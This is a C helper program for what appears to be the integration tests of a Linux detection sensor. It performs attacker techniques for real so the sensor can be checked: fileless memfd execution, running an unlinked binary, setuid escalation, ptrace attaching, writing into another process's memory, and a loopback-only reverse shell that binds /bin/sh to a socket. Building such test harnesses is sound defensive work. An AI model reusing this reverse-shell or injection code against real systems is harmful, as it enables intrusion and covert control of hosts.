/* behave: the behaviours the sensor and detection integration tests
 * (sensor.sh, detect.sh) perform for real, built with the tests so that
 * they need no compiler when they run. Each subcommand does one thing an
 * attacker might and prints what the tests need to find its events and
 * alerts:
 *
 *   sleep-ms MS                   sleep (a payload that lives long enough for /proc reads)
 *   spawn PROG ARG...             fork, exec PROG in the child, wait for it (a parent such
 *                                 as a fake office process starting a shell)
 *   fork-exec PROG ARG...         fork, exec PROG in the child, print "PID CHILD", wait
 *                                 200 ms and exit without waiting for the child (orphaning it)
 *   reuse-pid PID PROG ARG...     start PROG with pid PID (through ns_last_pid; retries);
 *                                 prints "reused PID" or "missed"
 *   memfd-exec NAME MS [ARGV0]    copy this program into a memfd called NAME and execute it
 *                                 as "ARGV0 sleep-ms MS" (fileless execution; ARGV0 is NAME
 *                                 unless given)
 *   deleted-exec PATH MS          copy this program to PATH, open it, unlink it and execute
 *                                 the open file as "PATH sleep-ms MS"
 *   suid-root                     print uid/euid, wait 300 ms, setuid(0) (a setuid-root or
 *                                 cap_setuid copy escalating), print them again
 *   ptrace-attach PID [MS]        PTRACE_ATTACH to PID (not our child), wait for the stop, detach,
 *                                 then stay MS milliseconds (for a sensor that reads /proc late)
 *   ptrace-seize PID [MS]         PTRACE_SEIZE + PTRACE_INTERRUPT to PID, wait, detach, stay MS
 *   vm-write                      fork a child and process_vm_writev into it; prints "PID BYTES"
 *   proc-mem-write                fork a child and write into it through /proc/PID/mem;
 *                                 prints "PID BYTES"
 *   listen PORTFILE MARK          accept one TCP connection on 127.0.0.1 (port written to
 *                                 PORTFILE), send it "echo MARK-ok; sleep 0.3; exit 0", print
 *                                 what comes back
 *   connect-shell PORT MARK       connect to 127.0.0.1:PORT, make the socket stdin/stdout/stderr,
 *                                 exec "/bin/sh -s MARK" (a reverse shell)
 *
 * Exit status 0 on success, 1 on failure (with a message on stderr), 2 on
 * bad usage. Only loopback addresses are ever used. */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static int die(const char *what)
{
        fprintf(stderr, "behave: %s: %s\n", what, strerror(errno));
        return 1;
}

static long num(const char *s)
{
        char *end;
        long v;

        errno = 0;
        v = strtol(s, &end, 10);
        if (errno || *end || end == s || v < 0) {
                fprintf(stderr, "behave: not a number: '%s'\n", s);
                exit(2);
        }
        return v;
}

static int sleep_ms(long ms)
{
        struct timespec ts = { .tv_sec = ms / 1000, .tv_nsec = (ms % 1000) * 1000000 };

        while (nanosleep(&ts, &ts) < 0 && errno == EINTR)
                ;
        return 0;
}

/* Forks a child that runs argv[0] with argv; returns its pid, or -1 (fork
 * failed). With want > 0 the child first checks that it got pid want and
 * exits 99 when it did not. */
static pid_t start(char **argv, pid_t want)
{
        pid_t child = fork();

        if (child == 0) {
                if (want > 0 && getpid() != want)
                        _exit(99);
                execv(argv[0], argv);
                _exit(127);
        }
        return child;
}

static int spawn(char **argv)
{
        pid_t child = start(argv, 0);
        int st;

        if (child < 0)
                return die("fork");
        if (waitpid(child, &st, 0) < 0)
                return die("waitpid");
        return WIFEXITED(st) && WEXITSTATUS(st) == 0 ? 0 : 1;
}

static int fork_exec(char **argv)
{
        pid_t child = start(argv, 0);

        if (child < 0)
                return die("fork");
        printf("%d %d\n", (int)getpid(), (int)child);
        sleep_ms(200);
        return 0;
}

/* The kernel gives the next process last_pid + 1 when that is free. Prints
 * "missed" when the pid could not be had (taken, or ns_last_pid not writable). */
static int reuse_pid(pid_t want, char **argv)
{
        for (int attempt = 0; attempt < 50; attempt++) {
                int fd = open("/proc/sys/kernel/ns_last_pid", O_WRONLY | O_CLOEXEC);
                char text[32];
                pid_t child;
                int st, len;

                len = snprintf(text, sizeof(text), "%d", (int)want - 1);
                if (fd < 0 || write(fd, text, (size_t)len) != len) {
                        /* no checkpoint/restore support or no privilege: the
                         * test then checks lineage without reuse */
                        fprintf(stderr, "behave: cannot set ns_last_pid: %s\n", strerror(errno));
                        if (fd >= 0)
                                close(fd);
                        break;
                }
                close(fd);
                child = start(argv, want);
                if (child < 0)
                        return die("fork");
                if (waitpid(child, &st, 0) < 0)
                        return die("waitpid");
                if (WIFEXITED(st) && WEXITSTATUS(st) == 99)
                        continue;
                printf("reused %d\n", (int)want);
                return WIFEXITED(st) && WEXITSTATUS(st) == 0 ? 0 : 1;
        }
        printf("missed\n");
        return 0;
}

/* Copies /proc/self/exe to fd. */
static int copy_self(int fd)
{
        char buf[65536];
        ssize_t n;
        int in;

        in = open("/proc/self/exe", O_RDONLY | O_CLOEXEC);
        if (in < 0)
                return die("open /proc/self/exe");
        while ((n = read(in, buf, sizeof(buf))) > 0)
                if (write(fd, buf, (size_t)n) != n) {
                        close(in);
                        return die("write the copy");
                }
        close(in);
        if (n < 0)
                return die("read /proc/self/exe");
        return 0;
}

static int memfd_exec(const char *name, const char *ms, const char *argv0)
{
        char *const argv[] = { (char *)argv0, "sleep-ms", (char *)ms, NULL };
        int fd;

        fd = memfd_create(name, MFD_CLOEXEC);
        if (fd < 0)
                return die("memfd_create");
        if (copy_self(fd))
                return 1;
        fexecve(fd, argv, (char *const[]){ NULL });
        return die("fexecve memfd");
}

static int deleted_exec(const char *path, const char *ms)
{
        char *const argv[] = { (char *)path, "sleep-ms", (char *)ms, NULL };
        int fd;

        fd = open(path, O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, 0700);
        if (fd < 0)
                return die("create the copy");
        if (copy_self(fd) || close(fd) < 0)
                return 1;
        fd = open(path, O_RDONLY | O_CLOEXEC);
        if (fd < 0)
                return die("open the copy");
        if (unlink(path) < 0)
                return die("unlink the copy");
        fexecve(fd, argv, (char *const[]){ NULL });
        return die("fexecve the deleted copy");
}

/* Sleeps first so that a sensor reading /proc after the exec finds it. */
static int suid_root(void)
{
        printf("uid=%u euid=%u\n", getuid(), geteuid());
        sleep_ms(300);
        if (setuid(0) < 0)
                return die("setuid(0)");
        printf("uid=%u euid=%u\n", getuid(), geteuid());
        return 0;
}

static int ptrace_attach(pid_t pid, int seize, long linger_ms)
{
        int st;

        if (seize) {
                if (ptrace(PTRACE_SEIZE, pid, NULL, NULL) < 0)
                        return die("PTRACE_SEIZE");
                if (ptrace(PTRACE_INTERRUPT, pid, NULL, NULL) < 0)
                        return die("PTRACE_INTERRUPT");
        } else if (ptrace(PTRACE_ATTACH, pid, NULL, NULL) < 0) {
                return die("PTRACE_ATTACH");
        }
        if (waitpid(pid, &st, __WALL) < 0)
                return die("waitpid");
        if (ptrace(PTRACE_DETACH, pid, NULL, NULL) < 0)
                return die("PTRACE_DETACH");
        return sleep_ms(linger_ms);
}

static char target_buf[64] = "before";

/* Forks a child that waits on a pipe and then checks that target_buf holds
 * msg; write_fn writes msg into the child's target_buf. */
static int inject_child(const char *msg, ssize_t (*write_fn)(pid_t, const char *, size_t))
{
        int go[2], st;
        pid_t child;
        ssize_t n;
        char c;

        if (pipe(go) < 0)
                return die("pipe");
        child = fork();
        if (child < 0)
                return die("fork");
        if (child == 0) {
                close(go[1]);
                if (read(go[0], &c, 1) != 1)
                        _exit(3);
                _exit(strcmp(target_buf, msg) == 0 ? 0 : 4);
        }
        close(go[0]);
        n = write_fn(child, msg, strlen(msg) + 1);
        if (n != (ssize_t)strlen(msg) + 1) {
                kill(child, SIGKILL);
                waitpid(child, &st, 0);
                return die("write into the child");
        }
        if (write(go[1], "x", 1) != 1 || waitpid(child, &st, 0) < 0)
                return die("wake the child");
        if (!WIFEXITED(st) || WEXITSTATUS(st) != 0) {
                fprintf(stderr, "behave: the child did not see the write\n");
                return 1;
        }
        printf("%d %zd\n", (int)child, n);
        return 0;
}

static ssize_t vm_write_fn(pid_t pid, const char *msg, size_t len)
{
        struct iovec local = { .iov_base = (void *)msg, .iov_len = len };
        struct iovec remote = { .iov_base = target_buf, .iov_len = len };

        return process_vm_writev(pid, &local, 1, &remote, 1, 0);
}

static ssize_t proc_mem_fn(pid_t pid, const char *msg, size_t len)
{
        char path[64];
        ssize_t n;
        int fd;

        snprintf(path, sizeof(path), "/proc/%d/mem", (int)pid);
        fd = open(path, O_RDWR | O_CLOEXEC);
        if (fd < 0)
                return -1;
        n = pwrite(fd, msg, len, (off_t)(uintptr_t)target_buf);
        close(fd);
        return n;
}

static int tcp_listen(const char *portfile, const char *mark)
{
        struct sockaddr_in sa = { .sin_family = AF_INET, .sin_addr.s_addr = htonl(INADDR_LOOPBACK) };
        socklen_t len = sizeof(sa);
        char cmd[256], buf[256];
        FILE *f;
        int s, c, clen;
        ssize_t n;

        /* the pause lets a sensor that reads /proc after the exec find the shell */
        clen = snprintf(cmd, sizeof(cmd), "echo %s-ok; sleep 0.3; exit 0\n", mark);
        if (clen < 0 || (size_t)clen >= sizeof(cmd)) {
                fprintf(stderr, "behave: marker too long\n");
                return 2;
        }
        s = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
        if (s < 0 || bind(s, (struct sockaddr *)&sa, sizeof(sa)) < 0 || listen(s, 1) < 0 ||
            getsockname(s, (struct sockaddr *)&sa, &len) < 0)
                return die("listen on 127.0.0.1");
        f = fopen(portfile, "w");
        if (!f || fprintf(f, "%u\n", ntohs(sa.sin_port)) < 0 || fclose(f) != 0)
                return die("write the port file");
        alarm(30);
        c = accept4(s, NULL, NULL, SOCK_CLOEXEC);
        if (c < 0)
                return die("accept");
        if (write(c, cmd, (size_t)clen) != clen)
                return die("send the command");
        while ((n = read(c, buf, sizeof(buf))) > 0)
                fwrite(buf, 1, (size_t)n, stdout);
        close(c);
        close(s);
        return 0;
}

static int connect_shell(const char *port, const char *mark)
{
        struct sockaddr_in sa = { .sin_family = AF_INET, .sin_addr.s_addr = htonl(INADDR_LOOPBACK),
                                  .sin_port = htons((uint16_t)num(port)) };
        int s = socket(AF_INET, SOCK_STREAM, 0);

        if (s < 0 || connect(s, (struct sockaddr *)&sa, sizeof(sa)) < 0)
                return die("connect to 127.0.0.1");
        if (dup2(s, 0) < 0 || dup2(s, 1) < 0 || dup2(s, 2) < 0)
                return die("dup2");
        close(s);
        execl("/bin/sh", "sh", "-s", mark, (char *)NULL);
        return die("exec /bin/sh");
}

int main(int argc, char **argv)
{
        const char *cmd = argc > 1 ? argv[1] : "";

        setvbuf(stdout, NULL, _IOLBF, 0);
        if (strcmp(cmd, "sleep-ms") == 0 && argc == 3)
                return sleep_ms(num(argv[2]));
        if (strcmp(cmd, "spawn") == 0 && argc >= 3)
                return spawn(argv + 2);
        if (strcmp(cmd, "fork-exec") == 0 && argc >= 3)
                return fork_exec(argv + 2);
        if (strcmp(cmd, "reuse-pid") == 0 && argc >= 4)
                return reuse_pid((pid_t)num(argv[2]), argv + 3);
        if (strcmp(cmd, "memfd-exec") == 0 && (argc == 4 || argc == 5))
                return memfd_exec(argv[2], argv[3], argv[argc == 5 ? 4 : 2]);
        if (strcmp(cmd, "deleted-exec") == 0 && argc == 4)
                return deleted_exec(argv[2], argv[3]);
        if (strcmp(cmd, "suid-root") == 0 && argc == 2)
                return suid_root();
        if (strcmp(cmd, "ptrace-attach") == 0 && (argc == 3 || argc == 4))
                return ptrace_attach((pid_t)num(argv[2]), 0, argc == 4 ? num(argv[3]) : 0);
        if (strcmp(cmd, "ptrace-seize") == 0 && (argc == 3 || argc == 4))
                return ptrace_attach((pid_t)num(argv[2]), 1, argc == 4 ? num(argv[3]) : 0);
        if (strcmp(cmd, "vm-write") == 0 && argc == 2)
                return inject_child("written by process_vm_writev", vm_write_fn);
        if (strcmp(cmd, "proc-mem-write") == 0 && argc == 2)
                return inject_child("written through /proc/PID/mem", proc_mem_fn);
        if (strcmp(cmd, "listen") == 0 && argc == 4)
                return tcp_listen(argv[2], argv[3]);
        if (strcmp(cmd, "connect-shell") == 0 && argc == 4)
                return connect_shell(argv[2], argv[3]);
        fprintf(stderr, "usage: behave sleep-ms MS | spawn PROG ARG... | fork-exec PROG ARG... |\n"
                        "       reuse-pid PID PROG ARG... | memfd-exec NAME MS [ARGV0] | deleted-exec PATH MS |\n"
                        "       suid-root | ptrace-attach PID [MS] | ptrace-seize PID [MS] |\n"
                        "       vm-write | proc-mem-write | listen PORTFILE MARK | connect-shell PORT MARK\n");
        return 2;
}
